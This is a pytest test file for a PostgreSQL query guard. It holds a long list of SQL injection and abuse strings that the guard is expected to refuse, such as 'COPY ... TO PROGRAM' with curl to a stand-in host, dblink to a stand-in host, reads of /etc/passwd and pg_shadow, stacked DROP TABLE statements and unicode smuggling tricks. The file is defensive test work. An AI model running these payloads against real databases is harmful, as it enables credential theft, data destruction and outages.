"""What a question in SQL can smuggle: each attempt is refused before PostgreSQL hears of it, by name where one was meant."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_provider_harness.adapters.model.query_config import load_queryable
from airflow_provider_harness.adapters.model.query_guard import MOST_NODES, QueryRefused, Visible, guarded
from airflow_provider_harness.core.contracts.contract import Column, Contract, LogicalType
from airflow_provider_harness.core.errors import ConfigurationError

RELATIONS: Mapping[str, Visible] = {
    "public.flights": Visible(columns={"id": True, "origin": True, "passenger": False}),
    "public.airports": Visible(columns={"id": True, "name": True}),
}
FLIGHTS = '(SELECT "id" AS "id", "origin" AS "origin", CAST(\'***\' AS TEXT) AS "passenger" FROM "public"."flights")'

ATTACKS = {
    "write": "DELETE FROM public.flights",
    "write in WITH": "WITH x AS (DELETE FROM public.flights RETURNING id) SELECT * FROM x",
    "insert in WITH": "WITH x AS (INSERT INTO public.flights VALUES (1) RETURNING id) SELECT id FROM x",
    "update in WITH": "WITH x AS (UPDATE public.flights SET id = 1 RETURNING id) SELECT id FROM x",
    "merge": "MERGE INTO public.flights f USING public.airports a ON f.id = a.id WHEN MATCHED THEN DELETE",
    "select into": "SELECT id INTO public.copy FROM public.flights",
    "create table as": "CREATE TABLE public.c AS SELECT id FROM public.flights",
    "two statements": "SELECT id FROM public.flights; DROP TABLE public.flights",
    "second statement after an empty one": "SELECT id FROM public.flights;; SELECT 1",
    "statement hidden by a comment": "SELECT id FROM public.flights /* ; */ ; DROP TABLE public.flights -- ",
    "nested comment": "SELECT id /* /* */ ; DROP TABLE public.flights; -- */ FROM public.flights; DELETE FROM x",
    "copy to program": "COPY public.flights TO PROGRAM 'curl http://evil'",
    "copy of a query": "COPY (SELECT id FROM public.flights) TO '/tmp/x'",
    "do block": "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
    "call": "CALL public.drop_everything()",
    "set": "SET ROLE postgres",
    "set read write": "SET TRANSACTION READ WRITE",
    "begin": "BEGIN; SELECT id FROM public.flights",
    "commit": "COMMIT",
    "lock": "LOCK TABLE public.flights",
    "explain analyze": "EXPLAIN ANALYZE DELETE FROM public.flights",
    "prepare": "PREPARE x AS DELETE FROM public.flights",
    "execute": "EXECUTE x",
    "listen": "LISTEN x",
    "notify": "NOTIFY x, 'y'",
    "vacuum": "VACUUM public.flights",
    "values alone": "VALUES (1)",
    "table alone": "TABLE pg_catalog.pg_authid",
    "for update": "SELECT id FROM public.flights FOR UPDATE",
    "for share": "SELECT id FROM public.flights FOR SHARE OF flights SKIP LOCKED",
    "for update inside": "SELECT id FROM (SELECT id FROM public.flights FOR UPDATE) AS q",
    "read a file": "SELECT pg_read_file('/etc/passwd')",
    "read a binary file": "SELECT pg_read_binary_file('/etc/passwd') FROM public.flights",
    "list a folder": "SELECT * FROM pg_ls_dir('/')",
    "file in FROM": "SELECT * FROM pg_read_file('/etc/passwd') AS t(id)",
    "dblink": "SELECT id FROM dblink('host=evil', 'select 1') AS t(id int)",
    "dblink_exec": "SELECT dblink_exec('host=evil', 'drop table x')",
    "import a file": "SELECT lo_import('/etc/passwd')",
    "export a file": "SELECT lo_export(1, '/tmp/x') FROM public.flights",
    "setting": "SELECT set_config('transaction_read_only', 'off', false)",
    "read a setting": "SELECT current_setting('data_directory')",
    "sleep": "SELECT pg_sleep(1000)",
    "sleep in a condition": "SELECT id FROM public.flights WHERE pg_sleep(10) IS NULL",
    "terminate": "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "next number": "SELECT nextval('public.s')",
    "advisory lock": "SELECT pg_advisory_lock(1)",
    "query in a text": "SELECT query_to_xml('delete from x', true, true, '')",
    "own function": "SELECT public.drop_everything()",
    "function with a schema": "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "quoted function": "SELECT \"pg_read_file\"('/etc/passwd')",
    "function by a dot": "SELECT f.pg_read_file FROM public.flights AS f",
    "function by a dot on a row": "SELECT (f).row_to_json FROM public.flights AS f",
    "whole row": "SELECT f FROM public.flights AS f",
    "whole row as text": "SELECT CAST(flights AS text) FROM public.flights",
    "endless rows": "SELECT generate_series(1, 1000000000)",
    "endless text": "SELECT repeat('x', 1000000000)",
    "endless recursion": "WITH RECURSIVE t AS (SELECT 1 AS id UNION ALL SELECT id FROM t) SELECT id FROM t",
    "pattern that takes forever": "SELECT id FROM public.flights WHERE origin ~ '(a+)+$'",
    "roles": "SELECT * FROM pg_catalog.pg_authid",
    "roles without schema": "SELECT rolname FROM pg_roles",
    "information schema": "SELECT * FROM information_schema.tables",
    "another table": "SELECT id FROM public.users",
    "another schema": "SELECT id FROM private.flights",
    "another database": "SELECT id FROM other.public.flights",
    "no schema": "SELECT id FROM flights",
    "another spelling": 'SELECT id FROM "Public"."Flights"',
    "hidden in a subquery": "SELECT id FROM public.flights WHERE id IN (SELECT oid FROM pg_class)",
    "hidden in a join": "SELECT f.id FROM public.flights AS f JOIN pg_catalog.pg_user AS u ON true",
    "hidden in a lateral": "SELECT id FROM public.flights, LATERAL (SELECT usename FROM pg_user) AS u",
    "hidden in a union": "SELECT id FROM public.flights UNION ALL SELECT passwd FROM pg_shadow",
    "hidden in EXISTS": "SELECT id FROM public.flights WHERE EXISTS (SELECT 1 FROM pg_shadow)",
    "hidden in ORDER BY": "SELECT id FROM public.flights ORDER BY (SELECT 1 FROM pg_shadow)",
    "hidden in LIMIT": "SELECT id FROM public.flights LIMIT (SELECT count(*) FROM pg_shadow)",
    "WITH that shadows the catalog": "WITH pg_shadow AS (SELECT id FROM public.flights) SELECT * FROM pg_shadow",
    "WITH used before it is there": "WITH a AS (SELECT * FROM b), b AS (SELECT id FROM public.flights) SELECT * FROM a",
    "WITH of itself": "WITH users AS (SELECT id FROM users) SELECT id FROM users",
    "WITH inside": "SELECT id FROM (WITH users AS (SELECT 1 AS id) SELECT id FROM users) AS q, users",
    "cast to a catalog's name": "SELECT CAST('pg_authid' AS regclass)",
    "cast by colons": "SELECT 'pg_authid'::regclass::oid",
    "cast to an own type": "SELECT id::public.evil FROM public.flights",
    "escaped text": "SELECT E'a\\'; DROP TABLE x; --'",
    "backslash": "SELECT 'a\\' || id FROM public.flights",
    "dollar quotes": "SELECT $$a$$ FROM public.flights",
    "dollar quotes with a tag": "SELECT $x$'; DROP TABLE y; --$x$",
    "unicode text": "SELECT U&'d!0061t!+000061' UESCAPE '!'",
    "unicode name": 'SELECT id FROM U&"public"."flights"',
    "wide letters": "SELECT id FROM public.\ufb02ights",
    "letters of another script": "SELECT id FROM publi\u0441.flights",
    "invisible space": "SELECT id FROM public.flights\u200b; DROP TABLE x",
    "no-break space": "SELECT\u00a0id FROM public.flights",
    "right-to-left": "SELECT id FROM public.flights \u202e-- ",
    "line separator ends a comment": "SELECT id FROM public.flights -- x\u2028; DROP TABLE y",
    "carriage return": "SELECT id -- x\rFROM pg_shadow\n FROM public.flights",
    "null byte": "SELECT id FROM public.flights\x00; DROP TABLE x",
    "sampling": "SELECT id FROM public.flights TABLESAMPLE SYSTEM (1)",
    "only": "SELECT id FROM ONLY public.flights, pg_shadow",
    "system column": "SELECT ctid, xmin FROM public.flights",
    "xml": "SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS id text)",
    "row from a text": "SELECT * FROM json_to_recordset('[]') AS t(id int)",
    "parameter": "SELECT id FROM public.flights WHERE id = $1",
    "placeholder": "SELECT id FROM public.flights WHERE id = %s",
    "a unit that is more": 'SELECT extract("year FROM now()), (SELECT max(passenger) FROM public.flights), extract(year" FROM now())',
    "a unit that is more, as a text": "SELECT date_part('YEAR FROM now()) + (SELECT max(id) FROM secrets) + EXTRACT(YEAR', now())",
    "a length that is more": 'SELECT CAST(1 AS varchar("1)), (SELECT max(id) FROM secrets), CAST(1 AS varchar(1"))',
    "empty": "",
    "only a comment": "-- nothing",
    "no SQL": "Please drop all tables",
    "too long": "SELECT id FROM public.flights WHERE origin = '" + "x" * 5000 + "'",
    "too deep": "SELECT " + "(" * 900 + "1" + ")" * 900,
}


@pytest.mark.parametrize("sql", ATTACKS.values(), ids=ATTACKS)
def test_refused(sql: str) -> None:
    with pytest.raises(QueryRefused, match=r"^sql: "):
        guarded(sql, RELATIONS)


@pytest.mark.parametrize(
    ("sql", "asked"),
    [
        ("select id from public.flights", f'SELECT "id" FROM {FLIGHTS} AS "flights"'),
        ("SELECT * FROM PUBLIC.Flights f", f'SELECT * FROM {FLIGHTS} AS "f"'),
        ("SELECT lower(passenger) FROM public.flights", f'SELECT LOWER("passenger") FROM {FLIGHTS} AS "flights"'),
        (
            "WITH a AS (SELECT origin, count(*) n FROM public.flights GROUP BY 1) SELECT * FROM a ORDER BY n DESC LIMIT 3;",
            f'WITH "a" AS (SELECT "origin", COUNT(*) AS "n" FROM {FLIGHTS} AS "flights" GROUP BY 1) '
            'SELECT * FROM "a" ORDER BY "n" DESC LIMIT 3',
        ),
        (
            "SELECT id FROM public.flights WHERE origin = 'x''; DROP TABLE y; --'",
            f'SELECT "id" FROM {FLIGHTS} AS "flights" WHERE "origin" = \'x\'\'; DROP TABLE y; --\'',
        ),
        ("SELECT id -- why\nFROM public.flights", f'SELECT "id" FROM {FLIGHTS} AS "flights"'),
        ("SELECT id /* FOR UPDATE */ FROM public.flights", f'SELECT "id" FROM {FLIGHTS} AS "flights"'),
    ],
)
def test_what_is_understood_is_written_anew(sql: str, asked: str) -> None:
    assert guarded(sql, RELATIONS) == asked


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT f.origin, a.name, count(*) FILTER (WHERE f.id > 1) FROM public.flights f LEFT JOIN public.airports a USING (id) "
        "GROUP BY f.origin, a.name HAVING count(*) > 1 ORDER BY 3 DESC NULLS LAST LIMIT 5 OFFSET 1",
        "SELECT date_trunc('day', now()), extract(year FROM current_date), now() - interval '1 day'",
        "SELECT CASE WHEN id IS NULL THEN 'a' ELSE coalesce(origin, 'b') END FROM public.flights",
        "SELECT row_number() OVER (PARTITION BY origin ORDER BY id) AS n FROM public.flights",
        "SELECT count(DISTINCT origin), min(id), max(id), avg(id), sum(id) FROM public.flights",
        "SELECT id::bigint FROM public.flights WHERE NOT EXISTS (SELECT 1 FROM public.airports)",
        "SELECT id FROM public.flights UNION SELECT id FROM public.airports EXCEPT SELECT 1",
    ],
)
def test_usual_questions_can_be_asked(sql: str) -> None:
    once = guarded(sql, RELATIONS)
    assert '"public"."flights"' in once or "FROM" not in sql.replace("FROM current_date", "")


def test_a_question_has_a_size() -> None:
    with pytest.raises(QueryRefused, match=f"{MOST_NODES} at most"):
        guarded(f"SELECT {'+'.join(['id'] * 300)} FROM public.flights", RELATIONS)


@given(st.text(max_size=200))
def test_any_text_is_refused_or_names_a_known_relation(text: str) -> None:
    try:
        asked = guarded(f"SELECT id FROM public.flights WHERE {text}", RELATIONS)
    except QueryRefused:
        return
    assert asked.startswith(f'SELECT "id" FROM {FLIGHTS}')
    assert "pg_" not in asked


CONTRACT = Contract(
    id="t",
    version="1",
    name="t",
    table="public.t",
    columns=(
        Column(name="id", logical_type=LogicalType.INTEGER, physical_type="bigint"),
        Column(name="mail", logical_type=LogicalType.STRING, physical_type="text", classification="PII"),
    ),
)


def test_the_file_names_relations_by_columns_or_by_contract(tmp_path: Path) -> None:
    path = tmp_path / "query.yaml"
    path.write_text("connection: ro\nrelations:\n  public.a: {columns: [id]}\n  public.t: {contract: t.yaml}\n")
    asked: list[str] = []

    def contract_of(file: str) -> Contract:
        asked.append(file)
        return CONTRACT

    found = load_queryable(str(path), contract_of)
    assert found.conn_id == "ro" and asked == [str(tmp_path / "t.yaml")]
    assert found.relations["public.a"].columns == {"id": True}
    assert found.relations["public.t"].columns == {"id": True, "mail": False}


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("- a", "a mapping of connection and relations"),
        ("connection: ro", "a mapping of connection and relations"),
        ("connection: 7\nrelations: {public.a: {columns: [id]}}", "the id of a connection"),
        ("connection: ro\nrelations: {}", "one or more"),
        ("connection: ro\nrelations: {users: {columns: [id]}}", "schema.table"),
        ("connection: ro\nrelations: {pg_catalog.pg_authid: {columns: [rolname]}}", "none of the catalog's"),
        ("connection: ro\nrelations: {information_schema.tables: {columns: [a]}}", "none of the catalog's"),
        ("connection: ro\nrelations: {public.a: {}}", "either columns"),
        ("connection: ro\nrelations: {public.a: {columns: [id], contract: x}}", "either columns"),
        ("connection: ro\nrelations: {public.a: {columns: all}}", "one or more"),
        ("connection: ro\nrelations: {public.a: {columns: ['*']}}", "names columns"),
        ("connection: ro\nrelations: {public.a: {columns: []}}", "names columns"),
        ("connection: ro\nconnection: rw\nrelations: {}", "given twice"),
    ],
)
def test_a_wrong_file_is_one_clear_error(tmp_path: Path, text: str, told: str) -> None:
    path = tmp_path / "query.yaml"
    path.write_text(text)
    with pytest.raises(ConfigurationError, match=told):
        load_queryable(str(path), lambda _: CONTRACT)


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="cannot be read"):
        load_queryable(str(tmp_path / "none.yaml"), lambda _: CONTRACT)
